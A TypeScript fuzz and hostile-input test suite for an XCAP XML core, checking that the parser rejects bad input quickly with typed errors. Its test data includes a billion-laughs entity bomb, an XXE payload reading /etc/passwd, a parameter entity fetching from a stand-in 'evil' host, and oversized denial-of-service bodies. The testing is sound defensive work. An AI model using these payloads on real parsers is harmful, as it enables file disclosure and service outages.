/**
 * Hostile and random input thrown at the whole XCAP core: only XcapError subclasses
 * may come out, never another exception, and everything returns quickly.
 */
import assert from 'node:assert/strict';
import { describe, test } from 'node:test';
import fc from 'fast-check';
import { XcapConflictError, XcapError } from '../../src/xcap/errors.js';
import { decodeUtf8Body, deleteNode, getNode, parseDocumentBody, putAttribute, putElement } from '../../src/xcap/operations.js';
import { selectElements } from '../../src/xcap/select.js';
import { parseNodeSelector, type NodeSelector } from '../../src/xcap/selector.js';
import { parseXcapPath } from '../../src/xcap/uri.js';
import type { XmlDocument } from '../../src/xcap/xml/tree.js';

const RL = 'urn:ietf:params:xml:ns:resource-lists';
const CONTEXT = { defaultNamespace: RL, bindings: new Map([['cp', 'counterpath:properties'], ['rl', RL]]) };

/** Runs `f`; a returned value or an XcapError is fine, anything else fails the test. */
function typed<T>(what: string, f: () => T): T | XcapError {
  try {
    return f();
  } catch (e) {
    if (e instanceof XcapError) {
      assert.equal(typeof e.status, 'number');
      assert.ok(e.status >= 400 && e.status < 500, `${what}: status ${e.status}`);
      const rendered = e.render();
      assert.equal(typeof rendered.body, 'string');
      return e;
    }
    assert.fail(`${what} threw ${e instanceof Error ? `${e.name}: ${e.message}` : String(e)}`);
  }
}

/** Fails when `f` takes longer than `ms`. */
function quick<T>(what: string, ms: number, f: () => T): T {
  const start = performance.now();
  const result = f();
  const took = performance.now() - start;
  assert.ok(took < ms, `${what} took ${took.toFixed(0)} ms (limit ${ms} ms)`);
  return result;
}

const DOCUMENTS = [
  `<?xml version="1.0" encoding="UTF-8"?>
<resource-lists xmlns="${RL}" xmlns:cp="counterpath:properties">
  <list name="friends">
    <entry uri="sip:bob@example.com"><display-name>Bob Müller</display-name><cp:x a="1"/></entry>
    <entry uri="sip:carol@example.com"/>
    <!-- 😀 -->
    <list name="inner"><entry uri="sip:d@e"/></list>
  </list>
  <list name="空"/>
</resource-lists>`,
  `<rl:resource-lists xmlns:rl="${RL}"><rl:list><rl:entry uri="a"/><rl:entry uri="b"/></rl:list></rl:resource-lists>`,
  `<resource-lists xmlns="${RL}"/>`,
].map((s) => parseDocumentBody(s));

// ---------------------------------------------------------------------------
// Arbitraries

const selectorPiece = fc.constantFrom(
  'resource-lists', 'list', 'entry', 'display-name', 'rl:list', 'cp:x', 'zz:a', '*', '/', '[1]', '[2]', '[3]', '[0]', '[',
  ']', '[@name="friends"]', "[@uri='sip:bob@example.com']", '[@uri="sip:d@e"]', '[@a="1"]', '@', '@uri', '@name', '@cp:a',
  'namespace::*', '"', "'", '=', ':', '&amp;', '&', '空', '😀', '\uD800', ' ', '%', '..', '99999999999',
);
const selectorText = fc.oneof(
  fc.array(selectorPiece, { maxLength: 14 }).map((a) => a.join('')),
  // Well-formed, from the root down, so that many of them select something.
  fc
    .tuple(
      fc.constantFrom('resource-lists', 'rl:resource-lists', '*', 'resource-lists[1]'),
      fc.array(
        fc.constantFrom('list', 'entry', '*', 'list[1]', 'list[2]', 'entry[1]', 'entry[2]', 'entry[3]', '*[1]', '*[3]', 'list[@name="friends"]', 'list[@name="inner"]',
          'rl:list', 'rl:entry[1]', 'cp:x', 'entry[@uri="sip:new@x"]', 'entry[1][@uri="sip:bob@example.com"]', '*[2][@uri="sip:new@x"]', 'display-name'),
        { maxLength: 4 },
      ),
      fc.constantFrom('', '', '/@uri', '/@name', '/@cp:a', '/@new', '/namespace::*'),
    )
    .map(([root, steps, terminal]) => [root, ...steps].join('/') + terminal),
  fc.string({ maxLength: 40 }),
);

const xmlPiece = fc.constantFrom(
  '<entry>', '</entry>', '<entry uri="sip:n@x">', '<entry uri="sip:n@x"/>', '<list name="friends">', '</list>', '<a/>', '<x:a xmlns:x="urn:x">', '</x:a>',
  '<cp:x/>', '<zz:y/>', 'text', 'Müller', '&amp;', '&', '&lt;', '&#x10FFFF;', '&#xD800;', '&#0;', '&bogus;', '<!--', '-->', '<!-- c -->',
  '<![CDATA[', ']]>', '<?pi x?>', '<?xml version="1.0"?>', '<?xml version="1.0" encoding="ISO-8859-1"?>', ' xmlns="urn:y"', ' ', '\n', '"', "'",
  '<', '>', '/>', '=', '\u0000', '\uFFFE', '\uD800', '😀', '<!DOCTYPE a>', '<!ENTITY e "x">', '%e;', '<entry xmlns="">', 'xmlns:=""', '<:a/>',
);
const xmlish = fc.oneof(
  fc.array(xmlPiece, { maxLength: 20 }).map((a) => a.join('')),
  fc.string({ maxLength: 60 }),
  // Bodies that often fit the selectors above.
  fc.constantFrom('<entry uri="sip:new@x"/>', '<list name="friends"/>', '<entry uri="sip:new@x"><display-name>Ñ</display-name></entry>', '<cp:x a="2"/>', '<display-name>😀</display-name>', '<rl:list/>'),
);

const uriPiece = fc.constantFrom(
  'resource-lists', 'users', 'global', 'sip:a@b', 'sip%3Aa%40b', 'index', '/', '//', '~~', '%7E%7E', '%7e~', '.', '..', '%2E', '%2F',
  '%', '%4', '%zz', '%FF', '%C3%A4', '%ED%A0%80', '?', 'xmlns(', ')', 'xmlns(a=urn:a)', 'xmlns(xml=x)', 'xmlns(xmlns=x)', '^', '^(',
  'element(/1)', '[', ']', '"', '@', '=', 'list', 'entry', '%5B', '%5D', '%22', '#', ' ', '😀', '\uD800',
);
const uriText = fc.oneof(fc.array(uriPiece, { maxLength: 16 }).map((a) => a.join('')), fc.string({ maxLength: 60 }));

const attBody = fc.oneof(
  fc.constantFrom('"x"', "'x'", '""', '"', '"a"b"', 'bare', '"<"', '"&amp;"', '"&bad;"', '"&#0;"', '"\uD800"', '"😀"', '"x"\n', "'\"'"),
  fc.string({ maxLength: 20 }),
);

// ---------------------------------------------------------------------------

/** Applies every operation that fits the selector and checks what a success promises. */
function exercise(document: XmlDocument, selector: NodeSelector, elementBody: string, attributeBody: string): void {
  typed('getNode', () => getNode(document, selector));
  if (selector.terminal?.kind === 'attribute') {
    const put = typed('putAttribute', () => putAttribute(document, selector, attributeBody));
    if (!(put instanceof XcapError)) assert.equal(selectElements(put.document, selector.steps).length, 1);
  } else {
    const put = typed('putElement', () => putElement(document, selector, elementBody));
    if (!(put instanceof XcapError)) {
      assert.equal(selectElements(put.document, selector.steps).length, 1, 'after a PUT the URI selects one element');
      parseDocumentBody(put.source);
    }
  }
  const deleted = typed('deleteNode', () => deleteNode(document, selector));
  if (!(deleted instanceof XcapError) && selector.terminal === null) {
    assert.equal(selectElements(deleted.document, selector.steps).length, 0, 'after a DELETE the URI selects nothing');
  }
}

describe('fuzz', () => {
  test('random URIs: parseXcapPath, then the selector', () => {
    quick('URIs', 3000, () =>
      fc.assert(
        fc.property(uriText, (text) => {
          const u = typed('parseXcapPath', () => parseXcapPath(text));
          if (u instanceof XcapError || u.nodeSelector === null) return;
          typed('parseNodeSelector', () => parseNodeSelector(u.nodeSelector!, { defaultNamespace: RL, bindings: u.namespaceBindings }));
        }),
        { numRuns: 3000 },
      ),
    );
  });

  test('random selectors and bodies against real documents', () => {
    quick('operations', 4000, () =>
      fc.assert(
        fc.property(fc.nat(DOCUMENTS.length - 1), selectorText, xmlish, attBody, (d, text, body, att) => {
          const selector = typed('parseNodeSelector', () => parseNodeSelector(text, CONTEXT));
          if (selector instanceof XcapError) return;
          exercise(DOCUMENTS[d]!, selector, body, att);
        }),
        { numRuns: 1500 },
      ),
    );
  });

  test('random bytes and XML-ish text as documents', () => {
    quick('documents', 3000, () =>
      fc.assert(
        fc.property(fc.oneof(fc.uint8Array({ maxLength: 200 }), xmlish.map((s) => Buffer.from(s, 'utf8'))), (bytes) => {
          const text = typed('decodeUtf8Body', () => decodeUtf8Body(bytes));
          if (text instanceof XcapError) {
            assert.ok(text instanceof XcapConflictError && text.conflict === 'not-utf-8');
            return;
          }
          const doc = typed('parseDocumentBody', () => parseDocumentBody(text));
          if (doc instanceof XcapError) {
            assert.ok(doc instanceof XcapConflictError && (doc.conflict === 'not-well-formed' || doc.conflict === 'not-utf-8'), doc.message);
          }
        }),
        { numRuns: 3000 },
      ),
    );
  });
});

describe('hostile bodies', () => {
  const list = parseNodeSelector('resource-lists/list[@name="friends"]/entry[@uri="sip:new@x"]', CONTEXT);
  const uriAttribute = parseNodeSelector('resource-lists/list[1]/entry[1]/@uri', CONTEXT);
  const doc = DOCUMENTS[0]!;

  const hostile: Record<string, string> = {
    'deep nesting (100 000 <a>)': '<a>'.repeat(100_000) + '</a>'.repeat(100_000),
    'deep nesting, unclosed': '<a>'.repeat(100_000),
    'deep nesting with prefixes': '<p:a xmlns:p="urn:p">'.repeat(50_000),
    '100 000 attributes': `<entry uri="sip:new@x" ${Array.from({ length: 100_000 }, (_, i) => `a${i}="${i}"`).join(' ')}/>`,
    '100 000 namespace declarations': `<entry uri="sip:new@x" ${Array.from({ length: 100_000 }, (_, i) => `xmlns:p${i}="urn:${i}"`).join(' ')}/>`,
    'a duplicated attribute': '<entry uri="sip:new@x" uri="sip:new@x"/>',
    'billion laughs': `<?xml version="1.0"?>
<!DOCTYPE lolz [
 <!ENTITY lol "lol">
 ${Array.from({ length: 9 }, (_, i) => `<!ENTITY lol${i + 1} "${`&lol${i || ''};`.repeat(10)}">`).join('\n ')}
]>
<entry uri="sip:new@x">&lol9;</entry>`,
    'external entity (XXE)': '<!DOCTYPE entry [<!ENTITY xxe SYSTEM "file:///etc/passwd">]><entry uri="sip:new@x">&xxe;</entry>',
    'parameter entity': '<!DOCTYPE entry [<!ENTITY % p SYSTEM "http://evil/x.dtd"> %p;]><entry uri="sip:new@x"/>',
    'DOCTYPE after the element': '<entry uri="sip:new@x"/><!DOCTYPE x>',
    'DOCTYPE inside': '<entry uri="sip:new@x"><!DOCTYPE x></entry>',
    'undeclared entity': '<entry uri="sip:new@x">&lol9;</entry>',
    'a huge text node': `<entry uri="sip:new@x">${'x'.repeat(2_000_000)}</entry>`,
    'a huge attribute value': `<entry uri="sip:new@x" v="${'&amp;'.repeat(400_000)}"/>`,
    'a huge comment, unclosed': `<entry uri="sip:new@x"><!--${'-'.repeat(1_000_000)}`,
    'unclosed CDATA': `<entry uri="sip:new@x"><![CDATA[${']'.repeat(1_000_000)}`,
    'many siblings': `<entry uri="sip:new@x">${'<a/>'.repeat(200_000)}</entry>`,
    'NUL characters': '<entry uri="sip:new@x">\u0000</entry>',
    'a lone surrogate': '<entry uri="sip:new@x">\uD800</entry>',
  };

  for (const [name, body] of Object.entries(hostile)) {
    test(name, () => {
      quick(name, 1500, () => {
        typed('putElement', () => putElement(doc, list, body));
        typed('parseDocumentBody', () => parseDocumentBody(body));
        typed('decodeUtf8Body', () => decodeUtf8Body(Buffer.from(body, 'utf8')));
      });
    });
  }

  test('DTDs and entity expansion are refused, never expanded', () => {
    for (const name of ['billion laughs', 'external entity (XXE)', 'parameter entity', 'DOCTYPE inside']) {
      const r = typed('putElement', () => putElement(doc, list, hostile[name]!));
      assert.ok(r instanceof XcapConflictError, name);
      const d = typed('parseDocumentBody', () => parseDocumentBody(hostile[name]!));
      assert.ok(d instanceof XcapConflictError && d.conflict === 'not-well-formed', name);
    }
  });

  test('nesting beyond the depth limit is refused, within it accepted', () => {
    const deep = (n: number) => `<entry uri="sip:new@x">${'<a>'.repeat(n)}${'</a>'.repeat(n)}</entry>`;
    assert.ok(typed('deep', () => putElement(doc, list, deep(100_000))) instanceof XcapConflictError);
    assert.ok(!(typed('shallow', () => putElement(doc, list, deep(50))) instanceof XcapError));
  });

  test('hostile attribute bodies', () => {
    for (const body of ['"' + '&amp;'.repeat(500_000) + '"', '"' + '&'.repeat(100_000) + '"', '"' + '<'.repeat(100_000) + '"', '"' + '&#x'.repeat(100_000) + '"']) {
      quick('attribute body', 1500, () => typed('putAttribute', () => putAttribute(doc, uriAttribute, body)));
    }
  });

  test('invalid UTF-8 is not-utf-8', () => {
    const cases = {
      'lone continuation byte': [0x3c, 0x61, 0x80, 0x2f, 0x3e],
      'overlong "/"': [0x3c, 0x61, 0xc0, 0xaf, 0x2f, 0x3e],
      'overlong NUL': [0xc0, 0x80],
      'encoded surrogate': [0xed, 0xa0, 0x80],
      'truncated sequence': [0x3c, 0x61, 0xe2, 0x82],
      'beyond U+10FFFF': [0xf4, 0x90, 0x80, 0x80],
      '0xFF': [0xff],
      'UTF-16 with BOM': [0xff, 0xfe, 0x3c, 0x00, 0x61, 0x00, 0x2f, 0x00, 0x3e, 0x00],
    };
    for (const [name, bytes] of Object.entries(cases)) {
      assert.throws(() => decodeUtf8Body(Uint8Array.from(bytes)), (e: unknown) => e instanceof XcapConflictError && e.conflict === 'not-utf-8', name);
    }
    // A view into a larger buffer is read from its own offset.
    const big = Buffer.from('xx<a/>yy', 'utf8');
    assert.equal(decodeUtf8Body(big.subarray(2, 6)), '<a/>');
  });
});

describe('hostile selectors and URIs', () => {
  const doc = DOCUMENTS[0]!;
  test('very long and deeply stepped selectors are refused quickly', () => {
    for (const text of [
      Array(100_000).fill('list').join('/'),
      'resource-lists/' + '*/'.repeat(100_000) + '*',
      `resource-lists/list[@name="${'x'.repeat(1_000_000)}"]`,
      `resource-lists/list[@name="${'&amp;'.repeat(200_000)}"]`,
      `resource-lists/list[@name="${'x'.repeat(1_000_000)}`,
      `resource-lists/list[${'9'.repeat(100_000)}]`,
      'a'.repeat(1_000_000),
      '['.repeat(100_000),
    ]) {
      quick(text.slice(0, 30), 1500, () => {
        const s = typed('parseNodeSelector', () => parseNodeSelector(text, CONTEXT));
        if (!(s instanceof XcapError)) exercise(doc, s, '<entry uri="sip:new@x"/>', '"v"');
      });
    }
  });

  test('very long URIs are handled quickly', () => {
    for (const text of [
      'resource-lists/users/sip:a@b/index/~~/' + 'list/'.repeat(100_000) + 'entry',
      'resource-lists/users/sip:a@b/' + 'd/'.repeat(100_000) + 'index',
      'resource-lists/users/sip:a@b/index?' + 'xmlns(a=urn:a)'.repeat(50_000),
      'resource-lists/users/sip:a@b/index?xmlns(a=' + '('.repeat(100_000),
      'resource-lists/users/sip:a@b/index?' + '^'.repeat(100_000),
      'resource-lists/users/sip:a@b/index/~~/' + '%5B'.repeat(100_000),
      '/'.repeat(100_000),
    ]) {
      quick(text.slice(0, 40), 1500, () => typed('parseXcapPath', () => parseXcapPath(text)));
    }
  });
});
